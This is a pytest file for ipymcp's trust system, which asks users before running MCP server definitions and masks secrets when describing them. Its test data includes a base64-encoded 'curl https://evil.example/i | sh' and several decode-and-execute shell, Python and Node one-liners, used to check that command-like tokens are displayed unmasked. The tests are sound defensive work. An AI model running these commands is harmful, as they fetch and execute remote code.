"""Trust in definitions: the question, the answer, and what is remembered."""

import asyncio
import contextlib
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from ipymcp.config.definition import Scope, ServerDefinition, Source
from ipymcp.config.redaction import described, masked, sensitive, wanted_secrets
from ipymcp.errors import TrustError
from ipymcp.interaction.questions import TrustAnswer, TrustQuestion
from ipymcp.security.trust import MAX_LINES, MAX_SERVERS, Grant, Trust, digest_of
from ipymcp.storage.database import Database
from tests.environments import ROOT

pytestmark = pytest.mark.posix


class User:
    """Answers every question the same way and keeps what was asked."""

    def __init__(self, answer: TrustAnswer | None = None) -> None:
        self.answer = answer
        self.asked: list[TrustQuestion] = []

    async def __call__(self, question: TrustQuestion) -> TrustAnswer | None:
        self.asked.append(question)
        return self.answer


ALL = TrustAnswer(frozenset({"fs", "git"}))


def definition(name: str = "fs", folder: str = "/project", scope: Scope = "project", **values: Any) -> ServerDefinition:
    source = Source(scope=scope, file=f"{folder}/mcp.json", folder=folder)
    return ServerDefinition(**{"name": name, "command": "uvx", "args": ("server",), "source": source, **values})


def may_run(trust: Trust, *definitions: ServerDefinition, agreed: bool = False, again: bool = True) -> list[str]:
    async def run() -> list[str]:
        await trust.ask_if_needed(definitions, agreed=agreed, again=again)
        running: list[str] = []
        for server in definitions:
            with contextlib.suppress(TrustError):
                await trust.require(server)
                running.append(server.name)
        return running

    return asyncio.run(run())


def refusal(trust: Trust, server: ServerDefinition) -> list[str]:
    with pytest.raises(TrustError) as caught:
        asyncio.run(trust.require(server))
    return caught.value._two_lines()


TWO = (definition("fs"), definition("git", args=("git",)))
WITH_SECRET = definition(env={"TOKEN": "${secret:github}"})
GRANTED = TrustAnswer(frozenset({"fs"}), frozenset({("fs", "github")}))


@pytest.fixture
def database(tmp_path: Path) -> Any:
    database = Database(tmp_path / "state.db")
    yield lambda: database
    database.close(5)


@pytest.mark.parametrize("scope", ["cell", "script", "named"])
def test_a_definition_that_the_user_typed_or_named_runs_without_a_question(database: Any, scope: Scope) -> None:
    user = User()
    assert may_run(Trust(database, user), definition(scope=scope)) == ["fs"]
    assert user.asked == []


def test_all_servers_of_a_projects_file_are_one_question_and_the_answer_is_remembered(database: Any) -> None:
    user = User(ALL)
    assert may_run(Trust(database, user), *TWO) == ["fs", "git"]
    (question,) = user.asked
    assert (question.file, question.why) == ("/project/mcp.json", "belongs to a project")
    assert [candidate.name for candidate in question.candidates] == ["fs", "git"]
    assert may_run(Trust(database, User()), *TWO) == ["fs", "git"]


def test_a_server_that_the_user_refused_is_asked_about_when_it_is_named_and_not_before(database: Any) -> None:
    assert may_run(Trust(database, User(TrustAnswer(frozenset({"git"})))), *TWO) == ["git"]
    user = User(ALL)
    trust = Trust(database, user)  # of another kernel
    assert may_run(trust, *TWO, again=False) == ["git"]
    assert user.asked == []
    assert refusal(trust, definition())[0] == "TrustError: fs: you did not trust this server: /project/mcp.json"
    assert may_run(trust, definition("fs", args=("changed",)), again=False) == ["fs"]
    assert may_run(trust, definition("fs")) == ["fs"]
    assert len(user.asked) == 2


def test_a_secret_that_the_user_refused_is_asked_about_when_its_server_is_named(database: Any) -> None:
    user = User(TrustAnswer(frozenset({"fs"})))
    trust = Trust(database, user)
    assert may_run(trust, WITH_SECRET) == may_run(trust, WITH_SECRET, again=False) == []
    assert len(user.asked) == 1
    assert may_run(trust, WITH_SECRET) == []
    assert len(user.asked) == 2


@pytest.mark.parametrize(
    "change",
    [
        {"command": "npx"}, {"args": ("server", "--root")}, {"cwd": "sub"}, {"env": {"A": "1"}}, {"env_file": ".env"},
        {"inherit_env": True}, {"auto_approve": ("*",)}, {"tools": {"*": "allow"}},
        {"hints": {"*": {"readOnlyHint": True}}}, {"name": "git"}, {"folder": "/elsewhere"},
    ],
    ids=lambda change: next(iter(change)),
)  # fmt: skip
def test_a_definition_that_changed_is_asked_about_again(database: Any, change: dict[str, Any]) -> None:
    may_run(Trust(database, User(ALL)), definition())
    user = User(None)
    assert may_run(Trust(database, user), definition(**change)) == []
    assert len(user.asked) == 1


def test_the_order_of_a_projects_rules_is_part_of_the_agreement() -> None:
    first, second = {"a": "allow", "*": "deny"}, {"*": "deny", "a": "allow"}
    assert digest_of(definition(tools=first)) != digest_of(definition(tools=second))


def test_a_script_of_the_project_that_changed_is_asked_about_again(database: Any, tmp_path: Path) -> None:
    script = tmp_path / "server.py"
    server = definition(folder=str(tmp_path), command="python", args=("server.py",))
    script.write_text("print('harmless')")
    assert may_run(Trust(database, User(ALL)), server) == ["fs"]
    script.write_text("print('harmful')")
    assert may_run(Trust(database, User(None)), server) == []


def test_the_users_own_file_is_taken_as_it_is_first_seen_and_a_changed_entry_asked_about_once(database: Any) -> None:
    user = User(ALL)
    assert may_run(Trust(database, user), definition(scope="user")) == ["fs"]
    assert user.asked == []
    changed = definition(scope="user", args=("other",))
    assert may_run(Trust(database, User(None)), changed) == []
    assert refusal(Trust(database, User()), changed)[0] == (
        "TrustError: fs: needs your trust: its entry in /project/mcp.json has changed"
    )
    assert may_run(Trust(database, user), changed) == ["fs"]
    assert user.asked[0].why == "is your own, and its entries for these servers have changed"
    assert may_run(Trust(database, User()), changed) == ["fs"]


def test_an_entry_that_ipymcp_wrote_for_the_user_runs_without_a_question(database: Any) -> None:
    may_run(Trust(database, User()), definition(scope="user"))
    written = definition(scope="user", args=("other",))
    asyncio.run(Trust(database, User()).agree_to_typed(written))
    assert may_run(Trust(database, User()), written) == ["fs"]


def test_a_projects_server_gets_a_secret_only_by_a_grant_of_its_own(database: Any) -> None:
    trust = Trust(database, User(ALL))
    assert may_run(trust, WITH_SECRET) == []
    assert refusal(trust, WITH_SECRET)[0] == "TrustError: fs: needs your consent to be given your secret 'github'"
    assert may_run(trust, WITH_SECRET, agreed=True) == []
    assert may_run(Trust(database, User(GRANTED)), WITH_SECRET) == ["fs"]
    assert may_run(Trust(database, User(None)), WITH_SECRET) == ["fs"]


def test_a_server_that_may_run_is_asked_about_for_its_secrets_alone(database: Any) -> None:
    user, later = User(GRANTED), User(GRANTED)
    trust = Trust(database, user)
    assert may_run(trust, WITH_SECRET, agreed=True) == ["fs"]
    assert asyncio.run(trust.agreements()) == []
    may_run(Trust(database, User(ALL)), WITH_SECRET)
    assert may_run(Trust(database, later), WITH_SECRET) == ["fs"]
    for question in (user.asked[0], later.asked[0]):
        assert [candidate.is_agreed for candidate in question.candidates] == [True]


def test_trust_given_in_the_cell_asks_nothing_and_is_not_remembered(database: Any) -> None:
    user = User()
    assert may_run(Trust(database, user), definition(), agreed=True) == ["fs"]
    assert user.asked == []
    assert may_run(Trust(database, user), definition()) == []


def test_a_variant_typed_over_a_definition_has_the_trust_of_that_definition(database: Any) -> None:
    trust, server = Trust(database, User(ALL)), definition()
    typed = server.replace(env={"LEVEL": "debug"})
    asyncio.run(trust.allow_variant(server, typed))
    assert may_run(Trust(database, User()), typed) == []
    may_run(trust, server)
    asyncio.run(trust.allow_variant(server, typed))
    assert asyncio.run(trust.allows(typed))


def test_a_variant_typed_over_an_entry_of_the_users_own_does_not_change_the_entry(database: Any) -> None:
    trust, server = Trust(database, User()), definition(scope="user")
    typed = server.replace(env={"LEVEL": "debug"})
    asyncio.run(trust.allow_variant(server, typed))
    assert may_run(trust, typed) == ["fs"]
    assert may_run(Trust(database, User()), server) == ["fs"]


@pytest.mark.parametrize(
    ("value", "running"),
    [
        ("all", ["fs"]), (" ALL ", ["fs"]), ("none", []), ("abc, {digest}", ["fs"]), ("{short}", []), ("all, x", []),
        ("", []),
    ],
)  # fmt: skip
def test_the_variable_decides_if_no_one_can_be_asked(
    database: Any, monkeypatch: pytest.MonkeyPatch, value: str, running: list[str]
) -> None:
    digest = digest_of(definition())
    monkeypatch.setenv("IPYMCP_TRUST", value.format(digest=digest, short=digest[:32]))
    assert may_run(Trust(database, User(None)), definition()) == running


@pytest.mark.parametrize(
    ("value", "problem", "command"),
    [
        ("yes", ", and IPYMCP_TRUST does not name it", "%mcp start fs asks for it, or "),
        ("none", ", and IPYMCP_TRUST is none", ""),
        (digest_of(definition())[:32], ", and IPYMCP_TRUST does not name it by its whole hash",
         "%mcp start fs asks for it, or "),
        (None, "", "%mcp start fs asks for it, or "),
    ],
)  # fmt: skip
def test_without_a_user_a_projects_server_that_the_variable_does_not_allow_is_refused_with_its_hash(
    database: Any, monkeypatch: pytest.MonkeyPatch, value: str | None, problem: str, command: str
) -> None:
    if value is not None:
        monkeypatch.setenv("IPYMCP_TRUST", value)
    trust = Trust(database, User(None))
    assert may_run(trust, definition()) == []
    assert refusal(trust, definition()) == [
        f"TrustError: fs: needs your trust{problem}: /project/mcp.json belongs to a project",
        f"  {command}set IPYMCP_TRUST={digest_of(definition())} where no one can be asked",
    ]


def test_none_in_the_variable_suspends_agreements(database: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    may_run(Trust(database, User(ALL)), definition())
    monkeypatch.setenv("IPYMCP_TRUST", "none")
    user = User(ALL)
    assert may_run(Trust(database, user), definition()) == []
    assert user.asked == []
    assert may_run(Trust(database, user), definition(scope="user")) == ["fs"]


def test_a_revoked_agreement_is_asked_about_again(database: Any) -> None:
    trust, own = Trust(database, User(ALL)), definition("git", scope="user")
    may_run(trust, definition(), own)
    assert [agreement.server for agreement in asyncio.run(trust.agreements())] == ["fs", "git"]
    assert {agreement.server for agreement in asyncio.run(trust.revoke(None))} == {"fs", "git"}
    assert asyncio.run(trust.agreements()) == []
    assert may_run(Trust(database, User(None)), definition(), own) == []


@pytest.mark.parametrize("named", ["fs", "/project/mcp.json", "{digest}"])
def test_revoking_takes_names_files_and_hashes(database: Any, named: str) -> None:
    trust = Trust(database, User(ALL))
    may_run(trust, definition())
    assert len(asyncio.run(trust.revoke(named.format(digest=digest_of(definition())[:12])))) == 1


def test_a_definition_is_shown_whole_and_secrets_are_masked_in_the_users_own_file_alone() -> None:
    one = definition(
        scope="user",
        args=("server", "--token", "abcdef0123456789", "--url=https://me:hunter22@host/?api_key=k1234567"),
        env={"API_KEY": "sk-abcdefghijklmnop", "LEVEL": "debug", "TOKEN": "${secret:github}"},
        auto_approve=("read_*",),
        cwd="sub",
    )
    description = described(one)
    assert description.summary == "will run `uvx server --token …` in `sub` and will get your secret github."
    assert [*description.lines] == [
        "Command     uvx server --token '•••• (16 characters)' '--url=https://me:•••• (8 characters)@host/?api_key="
        "•••• (8 characters)'",
        "Variable    API_KEY=•••• (19 characters)",
        "Variable    LEVEL=debug",
        "Variable    TOKEN=${secret:github}",
        "Unasked     read_* (autoApprove: models may call these)",
        "Receives    your secret github as env.TOKEN",
        "The program can change after you agree",
    ]
    theirs = described(one.replace(source=definition().source))
    assert (
        theirs.summary == "will run `uvx server --token abcdef0123456789 …` in `sub` and will get your secret github."
    )
    assert [*theirs.lines[:2]] == [
        "Command     uvx server --token abcdef0123456789 '--url=https://me:hunter22@host/?api_key=k1234567'",
        "Variable    API_KEY=sk-a… (19 characters)",
    ]
    assert wanted_secrets(one) == ("github",)


@pytest.mark.parametrize(
    ("option", "value", "shown"),
    [
        *(
            ("--dsn", text, text)
            for text in (
                "sqlite:////data/x.db",
                "postgres://me@h/db?sslmode=require",
                "postgres://me:${PASSWORD}@h:5432/db",
                "host=h dbname=d user=me",
                "Driver=x;Server=h;Uid=me",
                "/data/x.db",
            )
        ),
        ("--dsn", "postgres://me:p4ssword1@h/db", "•••• (28 characters)"),
        ("--dsn", "redis://:p4ssword1@h", "•••• (20 characters)"),
        ("--dsn", "https://0123456789abcdef@o1.example.com/1", "•••• (41 characters)"),
        ("--dsn", "mysql://h/db?a=b&password=abcdefgh12", "mysql://h/db?a=b&password=•••• (10 characters)"),
        ("--token", "sqlite-abc123==", "•••• (15 characters)"),
    ],
)
def test_the_address_of_a_database_without_a_password_is_no_secret(option: str, value: str, shown: str) -> None:
    own = definition(scope="user", args=(option, value), env={option.strip("-").upper(): value})
    description = described(own)
    whole = f"{description.summary} {description.lines[0]}".replace("'", "")
    assert f"uvx {option} {shown}" in whole
    if shown == value:
        assert f"Variable    {option.strip('-').upper()}={shown}" in description.lines
    is_secret = shown != value
    assert bool(list(sensitive(own.replace(args=(option, value.replace("${PASSWORD}", "")), env={})))) == is_secret


TOKEN = "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9pIHwgc2gK"


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("GITHUB_TOKEN", "ghp_abcdefghijklmnopqrstuvwxyz0123456789", "ghp_abcd… (40 characters)"),
        ("Authorization", f"Bearer {TOKEN}", "Bearer Y3VybCBo… (44 characters)"),
        ("Authorization", "Bearer ${TOKEN}", "Bearer ${TOKEN}"),
        ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "wJalrXUt… (40 characters)"),
        ("Cookie", "session=abc123def456ghi; theme=dark", "sess… (23 characters); theme=dark"),
        ("OTHER", f"x {TOKEN[:32]}", "x Y3VybCBo… (32 characters)"),
        (
            "DATABASE_URL",
            "postgres://me:hunter22x@db.example.com/x",
            "postgres://me:hunt… (9 characters)@db.example.com/x",
        ),
        (
            "ENDPOINT",
            "https://h.example/?api_key=k123456789&x=1",
            "https://h.example/?api_key=k123… (10 characters)&x=1",
        ),
        ("AUTH_TOKEN", "mcp2.example.com", "mcp2.example.com"),
        ("DB_PASSWORD", "./build/helper1", "./build/helper1"),
        ("DB_PASSWORD", "exec ./helper1", "exec ./helper1"),
        ("API_KEY", "none", "none"),
        ("LEVEL", "debug", "debug"),
    ],
)
def test_a_token_of_someone_else_is_shown_by_its_beginning(name: str, value: str, shown: str) -> None:
    remote = definition(command=None, url="https://h.example/mcp", headers={name: value}, extra={"http": {name: value}})
    assert f"Header      {name}: {shown}" in described(remote).lines
    assert f"Not used    {json.dumps({'http': {name: shown}}, ensure_ascii=False)}" in described(remote).lines
    assert f"Variable    {name}={shown}" in described(definition(env={name: value})).lines


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("T_TOKEN", ("sh", "-c", "echo $T_TOKEN | base64 -d | sh")),
        ("T_TOKEN", ("sh", "-c", "eval $(printenv T_TOKEN | base64 -d)")),
        ("T_TOKEN", ("bash", "-c", "env | base64 -d | sh")),
        ("T_TOKEN", ("cmd", "/c", "%T_TOKEN%")),
        ("T_TOKEN", ("python", "-c", "import os; exec(os.environ['T_TOKEN'])")),
        ("T_TOKEN", ("node", "-e", "eval(atob(process.env.T_TOKEN))")),
        ("T_TOKEN", ("tool", "${T_TOKEN}")),
        ("T_TOKEN", ("tool", TOKEN)),
        ("NODE_OPTIONS", ("node", "x.js")),
    ],
)
def test_a_token_that_may_be_a_part_of_a_command_is_shown_whole(name: str, command: tuple[str, ...]) -> None:
    server = definition(command=command[0], args=command[1:], env={name: TOKEN})
    assert f"Variable    {name}={TOKEN}" in described(server).lines


@pytest.mark.parametrize(
    "command", [("docker", "run", "-e", "T_TOKEN", "image"), ("sh", "-c", "npx -y x"), ("uvx", "x")]
)
def test_a_token_that_is_only_passed_on_is_shortened(command: tuple[str, ...]) -> None:
    server = definition(command=command[0], args=command[1:], env={"T_TOKEN": TOKEN})
    assert "Variable    T_TOKEN=Y3VybCBo… (44 characters)" in described(server).lines


def test_the_question_about_a_server_that_shadows_one_of_the_users_own_names_that(database: Any) -> None:
    may_run(Trust(database, User(ALL)), definition("fs"))
    shadowing, user = definition("fs").shadowing("/home/me/mcp.json"), User(ALL)
    trust = Trust(database, user)
    assert not asyncio.run(trust.allows(shadowing))
    assert may_run(trust, shadowing) == ["fs"]
    [candidate] = user.asked[0].candidates
    assert candidate.dangers[0] == "Takes the place of your own fs (/home/me/mcp.json), so its calls would go here"
    assert may_run(Trust(database, User()), shadowing) == ["fs"]


def changed_by_the_user(trust: Trust, before: ServerDefinition | None, after: ServerDefinition) -> bool:
    async def change() -> bool:
        await trust.carry_over(await trust.grant(before) if before is not None else None, after)
        return await trust.allows(after)

    return asyncio.run(change())


def test_an_edit_takes_over_the_agreement_to_what_it_edits_and_no_more(database: Any) -> None:
    trust = Trust(database, User(GRANTED))
    assert not changed_by_the_user(trust, None, definition()), "what could not be read was not agreed to"
    assert not changed_by_the_user(trust, WITH_SECRET, WITH_SECRET.replace(cwd="sub"))
    may_run(trust, WITH_SECRET)
    assert changed_by_the_user(trust, WITH_SECRET, WITH_SECRET.replace(cwd="sub"))
    wider = WITH_SECRET.replace(env={"TOKEN": "${secret:github}", "OTHER": "${secret:other}"})
    assert not changed_by_the_user(trust, WITH_SECRET, wider)
    assert refusal(trust, wider)[0] == "TrustError: fs: needs your consent to be given your secret 'other'"


def test_an_edit_takes_over_no_permission_of_the_variable(database: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    trust, after = Trust(database, User(None)), definition(cwd="sub")
    monkeypatch.setenv("IPYMCP_TRUST", "all")
    changed_by_the_user(trust, definition(), after)
    monkeypatch.delenv("IPYMCP_TRUST")
    assert not asyncio.run(trust.allows(after))


def test_an_edit_takes_over_trust_given_in_the_cell_for_this_kernel_alone(database: Any) -> None:
    trust, after = Trust(database, User(None)), definition(cwd="sub")
    may_run(trust, definition(), agreed=True)
    assert changed_by_the_user(trust, definition(), after)
    assert not asyncio.run(Trust(database, User(None)).allows(after))


@pytest.mark.parametrize("scope", ["project", "user"])
def test_an_imported_definition_is_shown_and_needs_each_of_its_secrets(database: Any, scope: Scope) -> None:
    ask = definition("fs", scope=scope, env={"A": "${secret:a}", "API_KEY": "./run"})
    calm, no = definition("git", scope=scope), definition("no", scope=scope)
    user = User(TrustAnswer(frozenset({"fs", "git"}), frozenset({("fs", "other"), ("git", "a")})))
    answer = asyncio.run(Trust(database, user).ask_about_import("/x/mcp.json", "/own.json", [ask, calm, no]))
    assert dict(answer.refused) == {"fs": "you did not give it your secret a", "no": "you did not agree to it"}
    assert dict(answer.granted) == {"git": Grant()}
    [question] = user.asked
    assert (question.file, question.why) == ("/x/mcp.json", "is to be imported into /own.json")
    assert question.is_strangers
    assert question.candidates[0].secrets == ("a",)
    assert "Variable    API_KEY=./run" in question.candidates[0].lines


def test_a_flood_of_servers_is_summarised_and_those_not_shown_are_not_agreed_to(database: Any) -> None:
    flood = [definition(f"s{number}") for number in range(MAX_SERVERS * 3)]
    user = User(TrustAnswer(frozenset(server.name for server in flood)))
    trust = Trust(database, user)
    running = may_run(trust, *flood, again=False)
    [question] = user.asked
    lines = [
        line for candidate in question.candidates for line in (candidate.summary, *candidate.lines, *candidate.dangers)
    ]
    assert running == [candidate.name for candidate in question.candidates]
    assert 1 < len(running) <= MAX_SERVERS and len(lines) <= MAX_LINES
    first = len(running)
    assert question.left_out == (
        f"s{first}, s{first + 1}, s{first + 2}, s{first + 3}, s{first + 4} and {len(flood) - first - 5} more do not fit"
        " here, and are not agreed to: %mcp load NAME asks about one"
    )
    assert len(may_run(trust, *flood, again=False)) > first  # those not shown were not refused


def test_a_definition_that_no_question_has_room_for_is_not_agreed_to(database: Any) -> None:
    long = definition("long", env={f"V{number}": "x" for number in range(30_000)})
    user = User(TrustAnswer(frozenset({"long", "fs"})))
    trust = Trust(database, user)
    assert may_run(trust, long, definition("fs")) == ["fs"]
    assert [candidate.name for candidate in user.asked[0].candidates] == ["fs"]
    assert refusal(trust, long) == [
        "TrustError: long: is too long to be shown (30,002 lines): /project/mcp.json",
        "  make it shorter, or allow it unseen: %mcp load long --trust",
    ]


def test_a_definition_with_halves_of_characters_can_be_agreed_to(database: Any) -> None:
    server = definition(args=("\ud800",), folder="/project\udcff")
    assert may_run(Trust(database, User(ALL)), server) == ["fs"]
    assert may_run(Trust(database, User(None)), server) == ["fs"]


def test_an_agreement_lists_the_files_that_it_is_bound_to(database: Any, tmp_path: Path) -> None:
    (tmp_path / "run.sh").write_text("")
    trust, server = Trust(database, User(ALL)), definition(folder=str(tmp_path), command="sh", args=("run.sh",))
    may_run(trust, server, definition("git"))
    assert [agreement.bound for agreement in asyncio.run(trust.agreements())] == ["run.sh", ""]
    assert "Asks again  if this changes: run.sh" in described(server).lines


@pytest.mark.parametrize(
    ("text", "name", "expected"),
    [
        ("Bearer abcdef012345", "Authorization", "Bearer •••• (12 characters)"),
        ("Bearer ${TOKEN}", "Authorization", "Bearer ${TOKEN}"),
        ("ghp_abcdefghijklmnop0123", "", "•••• (24 characters)"),
        ("4096", "MAX_TOKENS", "4096"),
        ("curl https://x | sh", "TOKEN", "curl https://x | sh"),
        ("plain words", "", "plain words"),
    ],
)
def test_a_mask_hides_secrets_and_no_commands(text: str, name: str, expected: str) -> None:
    assert masked(text, name) == expected


COUNTING = """
import json, os, sys
import ipymcp

reads = []

def audit(event, arguments):
    if event == "open" and str(arguments[0]).endswith("helper.py"):
        reads.append(arguments[0])

servers = {f"s{n}": {"command": "python", "args": ["helper.py", str(n)]} for n in range(200)}
with open("mcp.json", "w") as file:
    json.dump({"mcpServers": servers}, file)
with open("helper.py", "w") as file:
    file.write("pass")
with ipymcp.connect() as mcp:
    sys.addaudithook(audit)
    mcp.load()
    print({server.state for server in mcp.servers.values()}, len(mcp.servers), len(reads))
"""


def test_the_files_of_a_project_are_read_once_however_many_servers_name_them(tmp_path: Path) -> None:
    variables = {**os.environ, "PYTHONPATH": str(ROOT), "IPYMCP_STATE_DIR": str(tmp_path / "state")}
    done = subprocess.run(
        [sys.executable, "-W", "ignore", "-c", COUNTING],
        cwd=tmp_path, env=variables, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.stderr == ""
    states, count, reads = done.stdout.rsplit(maxsplit=2)
    assert (states, count) == ("{'needs_trust'}", "200")
    assert 3 <= int(reads) < 20  # to ask, to have them and at their start: what was agreed to is checked again


def test_definitions_that_are_digested_together_have_digests_of_their_own(tmp_path: Path, database: Any) -> None:
    (tmp_path / "x.js").write_text("1")
    several = [definition(f"s{n}", str(tmp_path), command="node", args=("x.js", str(n))) for n in range(5)]
    other = definition("other", str(tmp_path), command="node", args=("y.js",))

    async def run() -> list[str]:
        trust = Trust(database, User())
        return await asyncio.gather(*map(trust.digest, [*several, other]))

    before = asyncio.run(run())
    assert before == [digest_of(server) for server in (*several, other)]
    (tmp_path / "x.js").write_text("2")
    after = asyncio.run(run())
    assert [new == old for new, old in zip(after, before, strict=True)] == [False] * 5 + [True]
